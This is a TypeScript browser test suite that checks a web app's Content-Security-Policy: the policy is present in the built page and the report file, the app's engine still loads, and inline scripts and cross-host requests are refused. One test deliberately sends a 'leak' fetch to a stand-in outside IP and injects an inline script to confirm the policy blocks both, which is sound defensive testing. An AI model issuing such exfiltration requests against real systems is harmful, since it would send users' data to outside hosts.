// The Content-Security-Policy of the built app (scripts/build/csp.ts) and of
// the report file (src/report/report.ts): it is in the page, it refuses what
// it must (inline script, requests to other hosts), and the app still works
// under it. Every browser test also fails on any violation (harness.ts).
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, inject, it } from 'vitest';
import { CONTENT_SECURITY_POLICY } from '../../scripts/build/csp';
import { REPORT_CSP } from '../../src/report/report';
import { APP_TIMEOUT, setupBrowser } from './harness';
import { byTestId, waitForDashboard } from './dashboard';

const browser = setupBrowser('csp');

/** The directives of a policy as a map, so that order and spacing do not matter. */
function directives(policy: string): Map<string, string[]> {
  return new Map(
    policy
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((parts) => parts[0])
      .map(([name, ...values]) => [name ?? '', values]),
  );
}

describe('Content-Security-Policy', () => {
  it('is in the built page: no inline script, nothing but this origin to connect to, no plugins', async () => {
    const html = await readFile(join(inject('distDir'), 'index.html'), 'utf8');
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html);
    expect(meta?.[1]?.replaceAll('&#39;', "'")).toBe(CONTENT_SECURITY_POLICY);
    const policy = directives(CONTENT_SECURITY_POLICY);
    expect(policy.get('script-src')).toEqual(["'self'", "'wasm-unsafe-eval'"]);
    expect(policy.get('connect-src')).toEqual(["'self'"]);
    expect(policy.get('object-src')).toEqual(["'none'"]);
    // The built page itself has no inline script either.
    expect(html.match(/<script(?![^>]*\ssrc=)[^>]*>/g) ?? []).toEqual([]);
    // The tags put ahead of it in <head> leave the charset where a browser looks for it: the first 1,024 bytes.
    expect(Buffer.from(html).indexOf('<meta charset="UTF-8"')).toBeLessThan(1024 - '<meta charset="UTF-8" />'.length);
  });

  it('lets the app load its engine and data, and refuses an inline script and a request to another host', async () => {
    const session = browser();
    const page = await session.open('?q=2024Q4');
    await waitForDashboard(page);
    // DuckDB compiled and answered under the policy: the figures come from the engine.
    await expect.poll(() => byTestId(page, 'dashboard').getAttribute('data-source'), { timeout: APP_TIMEOUT }).toBe('engine');

    const before = { violations: session.cspViolations.length, requests: session.requests.length };
    const ran = await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.inlineScriptRan = true';
      document.head.append(script);
      return (window as unknown as { inlineScriptRan?: boolean }).inlineScriptRan ?? false;
    });
    expect(ran).toBe(false);
    const fetched = await page.evaluate(() =>
      fetch('http://203.0.113.7/leak?data=1').then(
        () => 'sent',
        () => 'refused',
      ),
    );
    expect(fetched).toBe('refused');
    await expect.poll(() => session.cspViolations.slice(before.violations).map((v) => v.replace(/ refused .*/, '').replace(/^.*: \[csp\] /, '')), { timeout: APP_TIMEOUT }).toEqual(['script-src-elem', 'connect-src']);
    // Refused by the page before any request was made.
    expect(session.requests.slice(before.requests).filter((u) => u.includes('203.0.113.7'))).toEqual([]);
    // These two were provoked on purpose: not a failure of the app.
    session.cspViolations.splice(before.violations);
  });

  it('is in the report file: it may load nothing at all', async () => {
    const policy = directives(REPORT_CSP);
    expect(policy.get('default-src')).toEqual(["'none'"]);
    expect([...policy.keys()].some((d) => d.startsWith('script-src'))).toBe(false);
    const page = await browser().open('?page=report&q=2024Q4');
    const frame = byTestId(page, 'report-preview');
    await frame.waitFor({ state: 'visible', timeout: APP_TIMEOUT });
    const srcdoc = (await frame.getAttribute('srcdoc')) ?? '';
    expect(srcdoc).toContain(`<meta http-equiv="Content-Security-Policy" content="${REPORT_CSP}">`);
  });
});
